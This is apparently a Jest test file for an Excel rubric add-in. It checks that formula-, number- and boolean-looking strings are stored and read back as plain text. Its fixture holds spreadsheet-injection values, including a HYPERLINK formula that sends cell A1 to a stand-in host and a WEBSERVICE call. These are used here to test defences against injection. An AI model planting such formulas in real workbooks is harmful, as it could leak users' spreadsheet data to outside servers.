// Text stays text: every string createRubric and writeCriteria put into the workbook reads back as it was, on a host
// that takes strings as typed input (test/host/model/typed-entry.ts); numbers stay numbers and dates stay dates.
import { exampleRubric } from "../../src/rubric/example";
import { Rubric } from "../../src/rubric/model";
import { createRubric } from "../../src/workbook/create";
import { readRubric } from "../../src/workbook/read-rubric";
import { readVersionedRubric } from "../../src/workbook/versions/read";
import { writeCriteria } from "../../src/workbook/write-criteria";
import { createSimulatedHost, SimulatedHostOptions } from "../host";
import { cellsOf, changedCells, dataValue, grid, numberFormats, valueAt } from "../support/host-helpers";
import { sampleRows } from "./sample";

jest.setTimeout(30_000);

const ID = "proactive-visit";
const RUBRIC_SHEET = "proactive-visit rubric";
const EVALUATIONS_SHEET = "proactive-visit evaluations";
const VERSIONS_SHEET = "proactive-visit versions";
const TITLE = '=HYPERLINK("http://x/?"&A1,"Open")';

/** The example rubric with texts Excel would take for formulas, numbers, dates or booleans. */
function hostileRubric(): Rubric {
  const rubric = exampleRubric("en");
  const labels = ["0", "TRUE", "1e5", "=A1", "+5", "-5", "@x", "007", "3-4"];
  return {
    ...rubric,
    title: TITLE,
    description: "=2*21",
    criteria: rubric.criteria.map((c, i) => ({
      ...c,
      label: labels[i] ?? ` ${c.label} `,
      description: i === 0 ? '\t=WEBSERVICE("http://x")' : c.description,
      section: i < 2 ? "0" : c.section,
      levels: c.levels?.map((l, k) => (k === 0 ? { ...l, label: "=A1; or not", description: "a | b\nc" } : l)),
    })),
    bands: rubric.bands.map((b, i) => (i === 0 ? { ...b, label: "=A1" } : b)),
  };
}

describe.each<SimulatedHostOptions>([{}, { emptyCells: "zero" }])("text stays text (empty cells %j)", (options) => {
  it("createRubric: titles, labels, descriptions, sections, levels, band labels read back as written", async () => {
    const host = createSimulatedHost(options);
    const rubric = hostileRubric();
    await host.run((context) => createRubric(context, rubric, { language: "en" }));

    expect(grid(host, RUBRIC_SHEET, "B1:B7")).toEqual([[ID], [TITLE], [1], ["draft"], [100], [1], ["=2*21"]]);
    expect(valueAt(host, EVALUATIONS_SHEET, "A1")).toBe(`${TITLE} (${ID})`);
    expect(grid(host, EVALUATIONS_SHEET, "F2:H2")).toEqual([["0", "TRUE", "1e5"]]);
    expect(valueAt(host, RUBRIC_SHEET, "N11")).toBe("=A1");
    // Not one formula where text was written: the only formulas are the add-in's own.
    const formulas = host.model.sheets.flatMap((s) => s.entries().filter(([, , cell]) => cell.formula !== undefined));
    expect(formulas.every(([, , cell]) => /^=(RUBRIC\.|SUMIFS|IF|LET|COUNTIF|[A-Z_]+\[)/.test(cell.formula!))).toBe(
      true,
    );
    // The versions sheet's only formula is version 1's Evaluations count (F4).
    const versionFormulas = host.model
      .sheet(VERSIONS_SHEET)
      .entries()
      .filter(([, , cell]) => cell.formula !== undefined);
    expect(versionFormulas.map(([row, column, cell]) => [row, column, cell.formula])).toEqual([
      [3, 5, "=COUNTIF(Evaluations_proactive_visit[Rubric version],[@[Version]])"],
    ]);

    const read = await host.run((context) => readRubric(context, ID));
    expect(read.problems).toEqual([]);
    expect(read.rubric).toEqual(rubric);
    // Version 1's snapshot holds the same texts, read back as written (title G4, description H4, labels AB4:AB12).
    expect(grid(host, VERSIONS_SHEET, "G4:H4")).toEqual([[TITLE, "=2*21"]]);
    expect(grid(host, VERSIONS_SHEET, "AB4:AB6")).toEqual([["0"], ["TRUE"], ["1e5"]]);
    expect(valueAt(host, VERSIONS_SHEET, "AN4")).toBe("=A1");
    const versioned = await host.run((context) => readVersionedRubric(context, ID));
    expect(versioned.versions?.read.problems).toEqual([]);
    expect(versioned.versions?.read.history.versions.map((v) => v.rubric)).toEqual([rubric]);
  });

  it("numbers stay numbers and dates stay dates beside text cells; the example's totals are unchanged", async () => {
    const host = createSimulatedHost(options);
    await host.run((context) =>
      createRubric(context, exampleRubric("en"), { language: "en", evaluations: sampleRows(3) }),
    );
    const evaluations = host.model.table("Evaluations_proactive_visit");
    expect(typeof dataValue(host, evaluations, 0, "Date")).toBe("number");
    expect(numberFormats(host, EVALUATIONS_SHEET, "A4:E4")).toEqual([["yyyy-mm-dd", "@", "@", "@", "@"]]);
    expect(dataValue(host, evaluations, 0, "Rubric version")).toBe(1);
    expect(numberFormats(host, RUBRIC_SHEET, "B1:B7").map((r) => r[0])).toEqual([
      "@",
      "@",
      "General",
      "@",
      "General",
      "General",
      "@",
    ]);
    expect(grid(host, RUBRIC_SHEET, "E11:F11")).toEqual([[15, 10]]);
    expect(numberFormats(host, RUBRIC_SHEET, "E11:F11")).toEqual([["General", "General"]]);
    // The sample rows' totals, as before text cells.
    const totals = [0, 1, 2].map((r) => dataValue(host, evaluations, r, "Total"));
    expect(totals.every((t) => typeof t === "number")).toBe(true);
  });

  it("writeCriteria: hostile labels change their criteria cells and labels above the scores, nothing else", async () => {
    const host = createSimulatedHost(options);
    const rubric = exampleRubric("en");
    await host.run((context) => createRubric(context, rubric, { language: "en", evaluations: sampleRows(2) }));
    const before = cellsOf(host);
    const edited = {
      ...rubric,
      criteria: rubric.criteria.map((c, i) => (i < 2 ? { ...c, label: ["=A1", "TRUE"][i], section: "0" } : c)),
    };
    await host.run((context) => writeCriteria(context, ID, edited));

    expect(changedCells(before, cellsOf(host))).toEqual([
      `${EVALUATIONS_SHEET}!F2`,
      `${EVALUATIONS_SHEET}!G2`,
      `${RUBRIC_SHEET}!B11`,
      `${RUBRIC_SHEET}!B12`,
      `${RUBRIC_SHEET}!I11`,
      `${RUBRIC_SHEET}!I12`,
    ]);
    expect(grid(host, RUBRIC_SHEET, "B11:B12")).toEqual([["=A1"], ["TRUE"]]);
    expect(grid(host, EVALUATIONS_SHEET, "F2:G2")).toEqual([["=A1", "TRUE"]]);
    const read = await host.run((context) => readRubric(context, ID));
    expect(read.rubric?.criteria).toEqual(edited.criteria);
  });

  it("writeCriteria: a criterion added in a new row has text cells for its texts", async () => {
    const host = createSimulatedHost(options);
    const rubric = exampleRubric("en");
    await host.run((context) => createRubric(context, rubric, { language: "en" }));
    const extra = {
      id: "EXTRA",
      label: "007",
      kind: "bonus" as const,
      weight: 2,
      max: 1,
      allowNA: false,
      section: "3-4",
    };
    await host.run((context) => writeCriteria(context, ID, { criteria: [...rubric.criteria, extra] }));
    const read = await host.run((context) => readRubric(context, ID));
    expect(read.rubric?.criteria.at(-1)).toEqual(extra);
  });
});
